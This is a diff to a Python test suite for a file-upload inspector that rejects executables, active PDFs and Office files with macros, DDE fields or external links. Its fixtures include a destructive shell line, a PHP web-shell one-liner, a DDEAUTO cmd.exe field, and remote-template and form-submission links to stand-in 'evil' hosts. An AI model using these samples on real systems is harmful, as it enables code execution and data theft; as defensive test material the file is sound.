@@ -71,7 +71,7 @@ def test_ten_megabytes_are_accepted_and_a_byte_more_is_not() -> None:
     [
         b"MZ\x90\0" + bytes(99), b"\x7fELF\2\1\1" + bytes(9), b"\xcf\xfa\xed\xfe" + bytes(9), b"dex\n035\0" + bytes(9),
         b"#!/bin/sh\nrm -rf ~\n", b"@echo off\r\n", b"\xca\xfe\xba\xbe\0\0", b"L\0\0\0\x01\x14\x02\0" + bytes(9),
-        b"<!DOCTYPE html><p>", b"\xef\xbb\xbf \n<HTML><script>", b"<?xml version='1.0'?>\n<svg xmlns='s'/>",
+        b"\xef\xbb\xbf \n<HTML><script>", b"<?xml version='1.0'?>\n<svg xmlns='s'/>",
         b"<!-- x --><svg/>", b"<?php system($_GET[0]);",
         zipped({"AndroidManifest.xml": b"\0", "classes.dex": b"dex\n035"}),
         zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"}),
@@ -84,7 +84,7 @@ def test_a_program_is_refused_whatever_its_name(content: bytes) -> None:
 @pytest.mark.parametrize(
     "content",
     [
-        b"just words", b"GIF89a" + bytes(99), b"\0\0\0\x18ftypheic" + bytes(99), OLE + bytes(999),
+        b"just words", b"GIF89a" + bytes(99), OLE + bytes(999),
         b"<letter>dear</letter>", b"junk" * 300 + GOOD["pdf"], zipped({"holiday.txt": "words"}),
         zipped({"mimetype": "application/vnd.oasis.opendocument.text"}),
         zipped({"[Content_Types].xml": types("ppt/presentation.xml", "application/vnd.presentationml.main+xml")}),
@@ -181,14 +181,31 @@ def png_that_claims(width: int, height: int) -> bytes:
 
 
 @pytest.mark.parametrize(
-    ("width", "height"), [(8_000, 5_001), (12_000, 9_000), (65_000, 65_000), (2**31 - 1, 2**31 - 1)]
+    ("width", "height"), [(8_000, 7_501), (12_000, 9_000), (65_000, 65_000), (2**31 - 1, 2**31 - 1)]
 )
 def test_an_image_of_too_many_pixels_is_a_bomb(width: int, height: int) -> None:
     assert reason(png_that_claims(width, height)) == "bomb"
 
 
-def test_forty_megapixels_are_accepted() -> None:
-    assert inspect("a.jpg", picture("jpeg", "L", (8_000, 5_000)), ALL).kind == "jpeg"
+def test_fifty_megapixels_are_accepted() -> None:
+    assert inspect("a.jpg", picture("jpeg", "L", (8_192, 6_144)), ALL).kind == "jpeg"
+
+
+def test_a_webp_photo_becomes_a_jpeg() -> None:
+    out = BytesIO()
+    Image.new("RGB", (64, 48), "red").save(out, "webp")
+    kept = inspect("foto.webp", out.getvalue(), ALL)
+    assert (kept.kind, kept.name, kept.content[:3]) == ("jpeg", "foto.jpg", b"\xff\xd8\xff")
+
+
+@pytest.mark.parametrize("brand", [b"heic", b"heix", b"mif1"])
+def test_a_heic_photo_is_named_as_what_it_is(brand: bytes) -> None:
+    assert reason(b"\0\0\0\x18ftyp" + brand + bytes(99)) == "heic"
+
+
+@pytest.mark.parametrize("page", [b"<!DOCTYPE html><p>", b"<html><table>", b"\xef\xbb\xbf<table><tr><td>1"])
+def test_a_web_page_named_xls_is_named_as_what_it_is(page: bytes) -> None:
+    assert reason(page, "Tabel.xls") == "web_page"
 
 
 def test_a_jpeg_of_a_thousand_scans_is_a_bomb() -> None:
@@ -275,7 +292,7 @@ def form_with_own_language(document: Pdf) -> None:
 
 def reachable_from_nowhere(document: Pdf) -> None:
     document.make_indirect(script())
-    document.Root.Keep = document.make_indirect(Dictionary(Import=Dictionary(S=Name.ImportData)))
+    document.Root.Keep = document.make_indirect(Dictionary(Open=Dictionary(S=Name.Launch)))
 
 
 PACKABLE = [
@@ -293,7 +310,7 @@ def test_an_active_pdf_is_refused_wherever_its_action_is(change: Callable[[Pdf],
 @pytest.mark.parametrize("change", PACKABLE, ids=lambda change: change.__name__)
 def test_an_active_pdf_with_object_streams_is_refused(change: Callable[[Pdf], None]) -> None:
     sent = pdf(change, packed=True)
-    assert not any(word in sent for word in (b"/JavaScript", b"/Launch", b"/XFA", b"/ImportData")), "not hidden at all"
+    assert not any(word in sent for word in (b"/JavaScript", b"/Launch", b"/XFA")), "not hidden at all"
     assert reason(sent) == "script_pdf"
 
 
@@ -454,16 +471,78 @@ MACRO_TYPE = '<Override PartName="/x" ContentType="application/vnd.ms-word.docum
         office("docx", {"word/_rels/document.xml.rels": relations(("vbaProject", "picture.png", False))}),
         office("docx", more_types=MACRO_TYPE),
         office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}),
-        office("docx", {"word/embeddings/a.bin": b"\1\0" + "\1Ole10Native".encode("utf-16-le") + b"MZ"}),
-        *(
-            office("docx", {"word/_rels/settings.xml.rels": relations((kind, "https://evil.example/a.dotm", True))})
-            for kind in ("oleObject", "attachedTemplate", "frame", "subDocument", "OLEOBJECT")
-        ),
-        office("xlsx", {"xl/_rels/x.RELS": PREFIXED}),
     ],
 )  # fmt: skip
 def test_an_active_office_file_is_refused(sent: bytes) -> None:
     assert reason(sent) == "macro"
+
+
+def related(kind: str, target: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
+    """A Word file with a relation to something outside of the file."""
+    return office("docx", {part: relations((kind, target, True))})
+
+
+def field(*codes: str) -> bytes:
+    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{code}</w:instrText></w:r>" for code in codes)
+    return office("docx", {"word/header1.xml": f"<w:hdr xmlns:w='w'><w:p>{runs}</w:p></w:hdr>"})
+
+
+@pytest.mark.parametrize(
+    ("sent", "why"),
+    [
+        *((related(kind, "https://evil.example/a.dotm"), "outside")
+          for kind in ("oleObject", "attachedTemplate", "frame", "subDocument", "OLEOBJECT", "image")),
+        (related("attachedTemplate", r"\\evil\share\a.dotm"), "outside"),
+        (related("attachedTemplate", "file://evil/share/a.dotm"), "outside"),
+        (related("attachedTemplate", "file:///%5C%5Cevil/share/a.dotm"), "outside"),
+        (related("hyperlink", "file://evil/share/a.docx"), "outside"),
+        (office("xlsx", {"xl/_rels/x.RELS": PREFIXED}), "outside"),
+        (field(" DDEAUTO c:\\Windows\\cmd.exe "), "dde"),
+        (field(" DD", "E excel a b "), "dde"),
+        (office("xlsx", {"xl/externalLinks/externalLink1.xml": "<x:ddeLink xmlns:x='x' ddeService='cmd'/>"}), "dde"),
+        (office("docx", {"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='a'/>"}), "embedded"),
+        (office("docx", {"word/_rels/document.xml.rels": relations(("control", "x.xml", False))}), "embedded"),
+        (office("docx", {"word/embeddings/a.bin": b"\1\0" + "\1Ole10Native".encode("utf-16-le") + b"MZ"}), "embedded"),
+        (office("docx", {"word/embeddings/a.bin": b"MZ" + bytes(99)}), "embedded"),
+    ],
+)  # fmt: skip
+def test_what_an_office_file_reaches_for_is_named(sent: bytes, why: str) -> None:
+    assert reason(sent) == why
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        related("attachedTemplate", "file:///C:\\Users\\ani\\Kop%20Surat.dotx"),
+        related("attachedTemplate", "Kop.dotx"),
+        related("oleObject", "file:///D:/data/Tabel.xlsx"),
+        related("hyperlink", "mailto:ani@example.go.id"),
+        related("hyperlink", "file:///C:/data/Tabel.xlsx"),
+        field(" PAGE ", " HYPERLINK https://bps.go.id ", " DATE \\@ dd "),
+        office("docx", {"word/comments.xml": "<w:t>DDE adalah singkatan</w:t>"}),
+    ],
+)
+def test_what_an_office_has_on_its_own_computer_is_taken(sent: bytes) -> None:
+    assert inspect("a.docx", sent, ALL).kind == "docx"
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
+        Dictionary(S=Name.ImportData, F=String("a.fdf")),
+        Dictionary(S=Name.GoToR, F=String("//evil/share/a.pdf")),
+        Dictionary(S=Name.URI, URI=String("file://evil/share/a.pdf")),
+        Dictionary(S=Name.URI, URI=String("\\\\evil\\share")),
+    ],
+)
+def test_a_pdf_that_reaches_outside_says_so(action: Dictionary) -> None:
+    assert reason(pdf(lambda document: document.Root.__setattr__("OpenAction", action))) == "outside_pdf"
+
+
+def test_an_empty_tree_of_scripts_is_no_script() -> None:
+    tree = Dictionary(JavaScript=Dictionary(Names=Array([])), EmbeddedFiles=Dictionary(Names=Array([])))
+    assert inspect("a.pdf", pdf(lambda document: document.Root.__setattr__("Names", tree)), ALL).pages == 1
 
 
 def test_an_office_file_behind_a_password_is_encrypted() -> None:
